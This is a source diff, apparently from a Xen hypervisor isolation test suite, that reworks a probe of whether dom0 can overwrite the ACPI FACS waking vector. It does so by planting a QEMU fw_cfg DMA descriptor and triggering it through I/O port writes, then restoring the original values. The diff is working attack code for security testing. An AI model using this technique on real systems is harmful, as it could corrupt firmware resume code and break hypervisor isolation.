@@ -9,9 +9,11 @@
  * written, read back by a second mapping, and put back. Stock:  nobody keeps
  * these frames from dom0.
  */
+#include <endian.h>
 #include <fcntl.h>
 #include <stdio.h>
 #include <string.h>
+#include <sys/io.h>
 #include <sys/mman.h>
 #include <unistd.h>
 
@@ -24,6 +26,13 @@
 #define FADT "/sys/firmware/acpi/tables/FACP"
 #define FADT_FACS 36   /* offset of its address */
 #define FACS_VECTOR 12 /* the waking vector */
+#define FACS_RESERVED 40
+
+/* QEMU, docs/specs/fw_cfg.rst: big-endian {control, length, address}. */
+#define FW_CFG_DMA 0x514
+#define FW_CFG_READ 2u
+#define FW_CFG_SELECT 8u
+#define FW_CFG_SIGNATURE 0u /* "QEMU" */
 
 /* mov %cs,%ax; mov %ax,%ds; movb $0xa5, cpu_started; cld; cli */
 static unsigned int cpu_started(const uint8_t *page)
@@ -193,33 +202,71 @@ static unsigned long facs(void)
     return address;
 }
 
+/* One word of it, which is written, or read. */
+static bool facs_word(unsigned long at, bool write, uint32_t *value)
+{
+    volatile uint32_t *word;
+    uint8_t *page;
+
+    if ( !pvh_dom0 )
+        return do_access(at, write, value);
+    page = map_as_device(at / PAGE);
+    if ( !page )
+        return false;
+    word = (void *)(page + at % PAGE);
+    if ( write )
+        *word = *value;
+    else
+        *value = *word;
+    munmap(page, PAGE);
+    xc_domain_memory_mapping(xch, 0, WINDOW / PAGE, at / PAGE, 1, 0);
+    return true;
+}
+
+/* QEMU's device for firmware carries out what is described at an address. */
+static int fw_cfg(void *at)
+{
+    uint64_t address = *(unsigned long *)at;
+
+    if ( ioperm(FW_CFG_DMA, 8, 1) )
+        return 1;
+    outl(htobe32(address >> 32), FW_CFG_DMA);
+    outl(htobe32(address), FW_CFG_DMA + 4);
+    return 0;
+}
+
+/*
+ * What dom0 maps may be a copy.  So a device that reads and writes the real
+ * page, as the firmware does, is told in the page itself to write to it.
+ */
 static enum verdict facs_write(struct victim *v)
 {
-    unsigned long vector = facs() + FACS_VECTOR;
-    uint32_t old = 0, new, now = 0;
+    unsigned long base = facs(), order = base + FACS_RESERVED, i;
+    uint32_t vector = 0, now = 0, old[4] = {0}, words[4] = {
+        htobe32(FW_CFG_SIGNATURE << 16 | FW_CFG_SELECT | FW_CFG_READ),
+        htobe32(sizeof(vector)),
+        0,
+        htobe32(base + FACS_VECTOR),
+    };
+    bool ok;
 
     (void)v;
-    if ( vector == FACS_VECTOR )
+    if ( !base )
         return verdict(UNPROVEN, "no FACS");
-    if ( pvh_dom0 )
-    {
-        struct place p = {
-            .domid = DOMID_IO,
-            .frame = vector / PAGE,
-            .offset = vector % PAGE,
-        };
-
-        return verdict(writable(&p) ? SUCCESS : FAILURE,
-                       "waking vector at %#lx", vector);
-    }
-    if ( !do_access(vector, false, &old) )
+    ok = facs_word(base + FACS_VECTOR, false, &vector);
+    for ( i = 0; i < 4 && ok; i++ )
+        ok = facs_word(order + 4 * i, false, &old[i]) &&
+             facs_word(order + 4 * i, true, &words[i]);
+    if ( !ok )
         return verdict(FAILURE, "not mapped");
-    new = old ^ 0x5a000;
-    do_access(vector, true, &new);
-    do_access(vector, false, &now);
-    do_access(vector, true, &old);
-    return verdict(now == (old ^ 0x5a000) ? SUCCESS : FAILURE,
-                   "waking vector at %#lx: %#x, %#x", vector, old, now);
+    in_child(fw_cfg, &order);
+    facs_word(base + FACS_VECTOR, false, &now);
+    facs_word(base + FACS_VECTOR, true, &vector);
+    for ( i = 0; i < 4; i++ )
+        facs_word(order + 4 * i, true, &old[i]);
+    return verdict(memcmp(&now, "QEMU", 4) ? FAILURE : SUCCESS,
+                   "waking vector at %#lx: %#x, %#x", base + FACS_VECTOR,
+                   vector, now);
 }
 ATTACK(facs_write, .needs = NO_VICTIM);
 
